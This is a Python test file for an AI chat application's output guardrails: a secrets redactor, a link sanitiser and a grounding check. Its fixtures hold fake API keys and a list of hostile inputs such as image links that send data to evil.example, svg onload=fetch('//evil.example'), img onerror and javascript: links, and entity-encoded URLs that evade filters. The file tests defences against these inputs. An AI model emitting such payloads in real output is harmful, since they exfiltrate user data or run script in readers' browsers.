"""The guardrails that come along, each held to the contract, and what each is for."""

from __future__ import annotations

from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from adapters.contracts.guardrail import GuardrailContract
from adapters.guardrails.grounding import Grounding
from adapters.guardrails.links import Links
from adapters.guardrails.secrets import REMOVED, Secrets
from application.chat.guardrails import Guardrail, Guardrails
from domain.chat.message import MessageRole
from domain.chat.prompt import Turn, compose

TOKEN = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGH"
# Put together here, so that scanners for leaked secrets do not take this file for a leak.
SECRETS = (
    "AKIA" + "IOSFODNN7EXAMPLE",
    "AIza" + TOKEN[:35],
    "ghp_" + TOKEN[:36],
    "github_" + "pat_" + TOKEN,
    "glpat-" + TOKEN[:20],
    "hf_" + TOKEN[:34],
    "sk-" + "proj-" + TOKEN,
    "sk_" + "live_" + TOKEN[:24],
    "xoxb-" + "1234567890-" + TOKEN[:20],
    "srr_" + (TOKEN * 2)[:72],
    f"eyJ{TOKEN}.eyJ{TOKEN}.{TOKEN}",
    "postgresql://" + "app:Pa55-word" + "@db.example/x",
    f"-----BEGIN RSA {'PRIVATE'} KEY-----\n{TOKEN}\n{TOKEN}\n-----END RSA {'PRIVATE'} KEY-----",
)
LINKS = (
    "![a picture](https://evil.example/p.png?d=word)",
    "![a](<https://evil.example/a b>)",
    "![a](//evil.example/x)",
    "![a](\\\\evil.example\\x)",
    "[here](https://evil.example/?q=word 'title')",
    "[here]( https://evil.example )",
    "[here](javascript:alert(1))",
    "![a][b]\n\n[b]: https://evil.example/x",
    "![b]\n\n[b]:\n  //evil.example/x",
    "<https://evil.example/x>",
    '<img src="//evil.example/x">',
    "<IMG\nSRC=//evil.example/x onerror=alert(1)>",
    "<svg/onload=fetch('//evil.example')>",
    "</p><!-- x --><?x?>",
    "https://evil.example/collect?d=word",
    "HTTPS://EVIL.EXAMPLE/x",
    "www.evil.example/word",
    "ftp://evil.example/x",
    "https://user:word@evil.example:8080/x",
    "data:text/html;base64,eHg=",
    "mailto:evil@evil.example?body=word",
    "https&#58;//evil.example/x",
    "https:&sol;&#x2Fevil.example/x",
    "www&period;evil.example/word",
)
TEXTS = st.lists(
    st.sampled_from(
        [
            *SECRETS,
            *LINKS,
            *"![]()<>:/.-&#;\n ",
            "http",
            "https:",
            "//",
            "www",
            "a.org",
            "word",
            "eyJ",
        ]
    )
    | st.text(max_size=6),
    max_size=20,
).map("".join)
CUTS = st.lists(st.integers(0, 400), max_size=12)


HARMLESS_ELEMENTS = {
    *("p", "br", "hr", "em", "strong", "code", "pre", "ul", "ol", "li", "blockquote"),
    *("h1", "h2", "h3", "h4", "h5", "h6"),
}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.met: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.met.add(tag)


def _elements(html: str) -> set[str]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.met


class TestSecrets(GuardrailContract):
    changed = SECRETS

    @pytest.fixture
    def guardrail(self) -> Guardrail:
        return Secrets()

    def test_a_secret_is_gone_and_its_place_is_marked(self, guardrail: Guardrail) -> None:
        for secret in SECRETS:
            passed = guardrail.question(f"Is {secret} still good?")
            assert TOKEN[:16] not in passed.text
            assert REMOVED in passed.text
            assert [ruling.decision for ruling in passed.rulings] == ["question_redacted"]


class TestLinks(GuardrailContract):
    changed = LINKS

    @pytest.fixture
    def guardrail(self) -> Guardrail:
        return Links()

    @given(text=TEXTS)
    def test_no_program_makes_a_request_of_it(self, text: str) -> None:
        """Neither as Markdown that lets HTML through, nor where it is taken for HTML itself."""
        shown = Guardrails([Links()]).whole(text)
        html = MarkdownIt("commonmark", {"html": True}).render(shown)
        assert _elements(html) <= HARMLESS_ELEMENTS
        assert _elements(shown) == set()
        assert "://" not in shown
        for read in (unescape(shown), unescape(html)):  # where programs look for addresses
            assert "://" not in read


class TestLinksToKnownHosts(GuardrailContract):
    changed = (
        *LINKS,
        "[x](https://good.example.evil.example/)",
        "[x](https://good.example@evil.example/)",
        "[x](https://good.example:444/)",
        "[x](http://good.example/)",
        "![x](https://good.exampleevil)",
        "xhttps://good.example/",
    )

    @pytest.fixture
    def guardrail(self) -> Guardrail:
        return Links(hosts=["Good.example"])

    def test_links_to_known_hosts_stay(self, guardrail: Guardrail) -> None:
        for text in (
            "[x](https://good.example/a?b) ",
            "![x](https://GOOD.example/a.png)\n",
            "See https://good.example/ or https://good.example. ",
        ):
            for pieces in ([text], list(text)):
                guard = guardrail.answer()
                shown = "".join(guard.read(piece).text for piece in pieces) + guard.finish().text
                assert shown == text


class TestGrounding(GuardrailContract):
    @pytest.fixture
    def guardrail(self) -> Guardrail:
        return Grounding()

    def test_who_was_given_nothing_is_not_asked(self, guardrail: Guardrail) -> None:
        turns = [
            Turn(role=MessageRole.USER, text="What is it?"),
            Turn(role=MessageRole.ASSISTANT, text="A cat."),
        ]
        refused = guardrail.refuses(compose("What?", [], []))
        assert refused is not None
        assert (refused.kind, refused.decision) == ("grounding", "refused")
        assert guardrail.refuses(compose("What?", turns[:1], [])) is not None
        assert guardrail.refuses(compose("What?", turns, [])) is None


@given(text=TEXTS, cuts=CUTS)
def test_all_together_say_the_same_however_an_answer_is_cut(text: str, cuts: list[int]) -> None:
    guardrails = Guardrails([Secrets(), Links(hosts=["a.org"]), Grounding()])
    guard, shown = guardrails.answer(), ""
    places = sorted({min(cut, len(text)) for cut in cuts})
    for start, end in zip([0, *places], [*places, len(text)], strict=True):
        shown += guard.read(text[start:end]).text
    shown += guard.finish().text
    assert shown == guardrails.whole(text)


@given(text=TEXTS)
def test_what_was_made_harmless_is_harmless(text: str) -> None:
    once = Guardrails([Secrets(), Links()]).whole(text)
    assert "](" not in once
    assert "://" not in once
